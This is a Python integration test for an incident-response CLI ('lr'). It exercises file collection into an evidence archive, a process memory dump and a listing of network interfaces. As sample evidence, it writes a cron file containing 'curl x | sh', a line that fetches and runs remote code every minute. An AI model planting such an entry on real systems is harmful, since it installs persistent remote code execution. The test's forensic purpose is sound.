"""`lr run … collect`, `memdump` and `interfaces` as an analyst drives them: the lines shown,
`--json`, and the evidence fetched back with `lr evidence get`."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from tasks.commands.collect import MANIFEST_NAME
from tasks.commands.memory import read_memdump_manifest
from tests.e2e.cli import Lr, ok

pytestmark = pytest.mark.integration


def test_collect_memdump_and_interfaces_through_lr(lr: Lr, device_id: str,
                                                   tmp_path: Path) -> None:
    session = json.loads(ok(lr("--json", "session", "open", device_id)).stdout)["id"]
    case = tmp_path / "case"
    (case / "etc").mkdir(parents=True)
    (case / "etc/cron.job").write_text("* * * * * curl x | sh\n")

    shown = ok(lr("run", session, f"collect {case}")).stdout.splitlines()
    assert shown[0] == f"{case}: 1 files, 2 directories, 0 symlinks; " + shown[0].split("; ")[1]
    sha = shown[-1].split()[6]
    archive = tmp_path / "case.tar"
    ok(lr("evidence", "get", sha, "--out", str(archive)))
    listing = subprocess.run(["tar", "-tf", str(archive)], capture_output=True, text=True,
                             check=True).stdout.split()
    assert listing[-1] == MANIFEST_NAME
    assert f"{case}/etc/cron.job".lstrip("/") in listing

    child = subprocess.Popen(["sleep", "60"])
    try:
        record = json.loads(ok(lr("--json", "run", session, f"memdump {child.pid}")).stdout)
    finally:
        child.kill()
        child.wait()
    assert record["status"] == "completed"
    dump = tmp_path / "dump.bin"
    ok(lr("evidence", "get", record["result"]["evidence_sha256"], "--out", str(dump)))
    with dump.open("rb") as stream:
        assert read_memdump_manifest(stream)["pid"] == child.pid

    table = ok(lr("run", session, "interfaces")).stdout.splitlines()
    assert table[0].split() == ["INTERFACE", "STATE", "MTU", "MAC", "ADDRESS"]
    assert any(line.startswith("lo ") for line in table)
    as_json = json.loads(ok(lr("--json", "run", session, "interfaces")).stdout)
    assert "lo" in {i["name"] for i in as_json["result"]["interfaces"]}
